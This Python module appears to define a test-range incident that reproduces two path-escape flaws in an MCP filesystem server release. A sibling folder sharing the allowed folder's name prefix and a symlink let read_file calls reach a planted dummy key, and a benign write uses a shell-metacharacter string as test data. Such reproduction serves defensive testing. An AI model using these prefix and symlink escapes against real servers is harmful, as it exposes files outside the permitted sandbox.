"""The filesystem server of the reference servers, release 2025.3.28, leaves its folder by a prefix and by a link.

The same two flaws as in `path-traversal`, in the release that had them.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from sekisho.model.range_ids import RangeId
from sekisho.range.calls import heard_keys, read_file
from sekisho.range.incident import Call, Incident, Layer, Server
from sekisho.range.packages import Index, Package, command

if TYPE_CHECKING:
    from pathlib import Path

    from sekisho.range.table import Table

__all__ = ["INCIDENT"]

_PACKAGE: Final = Package(
    index=Index.NPM,
    name="@modelcontextprotocol/server-filesystem",
    version="2025.3.28",
    program="dist/index.js",
)
_KEY: Final = "a key that opens nothing"


def _prepare(folder: Path) -> dict[str, Server]:
    work, outside = folder / "work", folder / "work_kept"
    work.mkdir()
    outside.mkdir()
    (outside / "key.txt").write_text(_KEY, encoding="utf-8")
    (work / "README.md").write_text("# Work\n", encoding="utf-8")
    (work / "latest").symlink_to(outside)
    return {"files": Server(command=command(_PACKAGE, str(work)), cwd=work)}


def _attack(table: Table, folder: Path) -> None:
    table.call(read_file(str(folder / "work_kept" / "key.txt")))
    table.call(read_file(str(folder / "work" / "latest" / "key.txt")))


INCIDENT: Final = Incident(
    id="filesystem-release",
    title=RangeId.TITLE_FILESYSTEM_RELEASE,
    page=21,
    row="T2.6",
    layer=Layer.PATH,
    sources=("CVE-2025-53110", "CVE-2025-53109"),
    prepare=_prepare,
    honest=(
        read_file("README.md"),
        Call(server="files", tool="list_directory", arguments={"path": "."}),
        Call(server="files", tool="write_file", arguments={"path": "new..file.txt", "content": "a; b | c && $(d)"}),
        read_file("new..file.txt"),
    ),
    attack=_attack,
    harm=lambda table, _folder: heard_keys(table, _KEY),
    package=_PACKAGE,
)
